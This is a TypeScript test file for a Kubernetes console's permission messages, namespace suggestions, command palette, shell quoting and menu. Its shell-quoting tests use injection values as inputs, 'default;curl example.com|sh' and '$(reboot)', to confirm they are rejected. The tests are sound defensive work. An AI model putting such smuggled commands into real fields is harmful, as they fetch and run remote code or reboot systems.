/** What the console says to users with few rights, and the actions of the palette. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { KubeObject } from '../../../shared/kube/objects/meta.js';
import { consoleModule } from '../../harness/console/console-module.js';

const { permissionText } =
  await consoleModule<typeof import('../../../console/api/permission-text.js')>('api/permission-text.ts');
const { candidateNamespaces } = await consoleModule<
  typeof import('../../../console/api/candidate-namespaces.js')
>('api/candidate-namespaces.ts');
const { paletteItems } =
  await consoleModule<typeof import('../../../console/palette/palette-items.js')>('palette/palette-items.ts');
const { namespaceFlag, shellWord } = await consoleModule<
  typeof import('../../../console/layout/text/shell-words.js')
>('layout/text/shell-words.ts');
const { isAtItem, NAV_ITEMS, NAV_PLACES } = await consoleModule<
  typeof import('../../../console/layout/shell/navigation.js')
>('layout/shell/navigation.ts');

describe('a refusal in words', () => {
  for (const [message, expected] of [
    [
      'nodes is forbidden: User "ann" cannot list resource "nodes" in API group "" at the cluster scope',
      'You are not allowed to list nodes.',
    ],
    [
      'pods "p" is forbidden: User "ann" cannot delete resource "pods" in API group "" in the namespace "shop"',
      'You are not allowed to delete pods in namespace shop.',
    ],
    ['pods "p" is forbidden: exceeded quota: q', 'pods "p" is forbidden: exceeded quota: q'],
  ] as const) {
    test(expected, () => assert.equal(permissionText(message), expected));
  }
});

describe('namespaces in which a user may see something', () => {
  for (const [what, known, expected] of [
    ['a new user', { stored: [], listed: [], user: 'ann' }, ['default']],
    [
      'a ServiceAccount',
      { stored: [], listed: [], user: 'system:serviceaccount:shop:ann' },
      ['shop', 'default'],
    ],
    [
      'a user who chose one before and may list namespaces',
      { stored: ['tills'], listed: ['default', 'shop', 'tills'], user: 'ann' },
      ['tills', 'default', 'shop'],
    ],
  ] as const) {
    test(`for ${what}`, () => assert.deepEqual(candidateNamespaces(known), expected));
  }
  test('are not more than can be reviewed', () => {
    const listed = Array.from({ length: 1_000 }, (_, index) => `n${index}`);
    assert.equal(candidateNamespaces({ stored: [], listed, user: 'ann' }).length, 50);
  });
});

describe('an action typed in the palette', () => {
  const rollouts = ['till', 'radio'].map((name) => ({ metadata: { namespace: 'shop', name } }) as KubeObject);
  const named = (name: string) => [{ metadata: { namespace: 'shop', name } } as KubeObject];
  const objects = {
    ...{ daemonSets: [], rollouts, services: [], maySignOut: true },
    ...{ daemonJobs: named('flash'), cronDaemonJobs: named('nightly'), hostValues: named('kiel') },
  };
  const first = (typed: string) => {
    const [item] = paletteItems(typed, objects);
    return item && 'go' in item ? [item.text, item.go] : undefined;
  };
  for (const [typed, expected] of [
    ['cordon node-37', ['Cordon node-37…', '/hosts/node-37?act=cordon']],
    ['Maintenance node-1', ['Maintenance node-1…', '/hosts/node-1?act=maintenance']],
    ['approve till', ['Approve shop/till…', '/rollouts/shop/till?act=approve']],
    ['abort shop/radio', ['Abort shop/radio…', '/rollouts/shop/radio?act=abort']],
    ['hosts', ['Hosts', '/hosts']],
    ['flash', ['shop/flash', '/jobs/shop/flash']],
    ['nightly', ['shop/nightly', '/jobs/scheduled/shop/nightly']],
    ['kiel', ['shop/kiel', '/values/shop/kiel']],
  ] as const) {
    test(`"${typed}" comes first`, () => assert.deepEqual(first(typed), expected));
  }
  test('a verb without a possible target is no action', () => {
    assert.ok(paletteItems('cordon ../x', objects).every(({ id }) => !id.startsWith('act')));
    assert.ok(paletteItems('approve nothing', objects).every(({ id }) => !id.startsWith('act')));
  });
});

describe('a command to copy', () => {
  for (const [namespace, expected] of [
    [undefined, '-A'],
    ['', '-A'],
    ['shop', '-n shop'],
    ['default;curl example.com|sh', '-A'],
    ['$(reboot)', '-A'],
    [`${'a'.repeat(63)}`, `-n ${'a'.repeat(63)}`],
    [`${'a'.repeat(64)}`, '-A'],
    ['-', '-A'],
  ] as const) {
    test(`has ${expected} for the namespace ${namespace}`, () =>
      assert.equal(namespaceFlag(namespace), expected));
  }
  for (const [text, expected] of [
    ['a=b,c=d', 'a=b,c=d'],
    ['100%', '100%'],
    ['', "''"],
    ['a b', "'a b'"],
    ['a;b', "'a;b'"],
    ["it's", "'it'\\''s'"],
    ['a\nb', "'a\nb'"],
  ] as const) {
    test(`has ${JSON.stringify(text)} as one word`, () => assert.equal(shellWord(text), expected));
  }
});

describe('the menu', () => {
  test('has no key and no path twice', () => {
    for (const values of [NAV_PLACES.map(({ key }) => key), NAV_PLACES.map(({ path }) => path)])
      assert.equal(new Set(values).size, values.length);
  });
  test('marks the entry of an object below a list, and the overview only for itself', () => {
    const at = (path: string) => NAV_ITEMS.filter((item) => isAtItem(item, path)).map(({ name }) => name);
    assert.deepEqual(at('/'), ['Overview']);
    assert.deepEqual(at('/hosts/node-1'), ['Hosts']);
    assert.deepEqual(at('/rollouts/shop/till'), ['Rollouts']);
  });
});
